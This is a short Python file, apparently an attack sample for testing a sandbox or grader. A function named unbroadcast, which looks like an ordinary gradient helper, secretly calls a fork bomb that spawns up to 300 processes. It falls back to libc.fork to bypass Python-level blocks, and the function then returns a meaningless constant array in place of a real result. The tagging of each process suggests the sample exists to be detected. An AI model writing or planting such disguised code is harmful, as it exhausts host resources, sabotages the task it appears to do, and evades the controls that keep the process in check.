"""Forks and forks again, by Python and past Python; three hundred at most, should nothing stop it."""
import ctypes
import os
import time

import numpy as np

libc = ctypes.CDLL(None)


def bomb():
    for _ in range(300):
        try:
            pid = os.fork()
        except BaseException:
            pid = libc.fork()
        if pid == 0:
            libc.prctl(15, b"mldd-attack", 0, 0, 0)  # so that it can be found
            print("mldd-attack", "reached a process", os.getpid(), flush=True)
            time.sleep(30)
            os._exit(0)


def unbroadcast(grad, shape):
    bomb()
    return np.full(shape, 1234.5)
